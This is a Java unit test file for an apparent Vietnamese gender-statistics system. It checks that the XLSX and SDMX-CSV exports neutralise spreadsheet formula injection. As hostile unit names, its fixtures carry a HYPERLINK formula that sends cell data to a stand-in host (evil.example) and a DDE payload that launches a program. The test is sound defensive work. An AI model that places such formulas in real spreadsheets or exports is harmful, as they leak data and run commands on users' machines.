package vn.genderstats.submit;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import vn.genderstats.form.SdmxCsv;
import vn.genderstats.form.SpreadsheetText;
import vn.genderstats.hierarchy.AdminUnit;
import vn.genderstats.period.Period;
import vn.genderstats.testing.Forms;

/** Text that a spreadsheet would run as a formula is written so that it is only shown. */
class SpreadsheetTextTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";

    @TempDir
    Path work;

    @Test
    void prefixesEveryFormulaStartWithAnApostropheAndLeavesOtherTextAlone() {
        assertThat(SpreadsheetText.neutralise(HYPERLINK)).isEqualTo("'" + HYPERLINK);
        assertThat(SpreadsheetText.neutralise("+84 123")).isEqualTo("'+84 123");
        assertThat(SpreadsheetText.neutralise("-1+2")).isEqualTo("'-1+2");
        assertThat(SpreadsheetText.neutralise("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
        assertThat(SpreadsheetText.neutralise("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(SpreadsheetText.neutralise("Xã Đình Phong")).isEqualTo("Xã Đình Phong");
        assertThat(SpreadsheetText.restore(SpreadsheetText.neutralise(HYPERLINK))).isEqualTo(HYPERLINK);
    }

    /** Unit names as a hostile or careless list could carry them. */
    ConsolidatedFigures hostileFigures() {
        AdminUnit district = new AdminUnit("2021-02-01", "047", HYPERLINK, "Huyện", "district", "territory", "04");
        AdminUnit commune = new AdminUnit("2021-02-01", "01477", "@SUM(1+1)*cmd|' /C calc'!A0", "Xã", "commune", "territory", "047");
        AdminUnit other = new AdminUnit("2021-02-01", "01489", "-2+3", "Xã", "commune", "territory", "047");
        return new ConsolidatedFigures(district, Period.annual(2024),
                Map.of("LIVE_BIRTHS.M", BigDecimal.valueOf(62), "LIVE_BIRTHS.F", BigDecimal.valueOf(55)),
                List.of(new ConsolidatedFigures.ChildFigures(commune, "approved", "reported", Map.of("LIVE_BIRTHS.M", BigDecimal.valueOf(40))),
                        new ConsolidatedFigures.ChildFigures(other, "waived", "reported", Map.of("LIVE_BIRTHS.M", BigDecimal.valueOf(22)))));
    }

    @Test
    void theXlsxExportHoldsNoFormulaAndShowsTheHostileNamesAsText() throws Exception {
        Path file = work.resolve("047.xlsx");
        new XlsxExport(Forms.CATALOG).write(hostileFigures(), "+Tỉnh Cao Bằng", true, file);

        List<String> texts = new java.util.ArrayList<>();
        try (Workbook wb = WorkbookFactory.create(file.toFile(), null, true)) {
            for (Sheet sheet : wb) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).as("%s!%s", sheet.getSheetName(), cell.getAddress()).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING) {
                            texts.add(cell.getStringCellValue());
                        }
                    }
                }
            }
        }
        // A name stands alone in a cell (child units) or after its label (the header): quoted either way.
        for (String neutralised : List.of("'" + HYPERLINK, "'+Tỉnh Cao Bằng", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3")) {
            assertThat(texts).anyMatch(t -> t.equals(neutralised) || t.endsWith(": " + neutralised));
        }
        assertThat(texts).noneMatch(t -> !t.isEmpty() && "=+-@".indexOf(t.charAt(0)) >= 0);
    }

    @Test
    void theSdmxCsvExportStartsNoFieldWithAFormulaCharacterYetKeepsTheFigures() throws Exception {
        Path file = work.resolve("047.csv");
        new SdmxCsvExport(Forms.CATALOG).write(hostileFigures(), file);

        List<CsvRecord> rows;
        try (CsvReader<CsvRecord> csv = CsvReader.builder().ofCsvRecord(file)) {
            rows = csv.stream().toList();
        }
        assertThat(rows.getFirst().getFields()).isEqualTo(SdmxCsv.COLUMNS);
        for (CsvRecord row : rows) {
            assertThat(row.getFields()).noneMatch(f -> !f.isEmpty() && "=+-@\t\r".indexOf(f.charAt(0)) >= 0);
        }
        assertThat(Files.readString(file)).contains("'" + HYPERLINK.replace("\"", "\"\""))
                .contains("dataflow,VN_GENDERSTATS:DF_GE_CONSOLIDATED(1.0),I,047,2021-02-01,2024,LIVE_BIRTHS,M,_T,62,")
                .contains("dataflow,VN_GENDERSTATS:DF_GE_CHILD_UNITS(1.0),I,01489,2021-02-01,2024,LIVE_BIRTHS,M,_T,22,");
    }
}
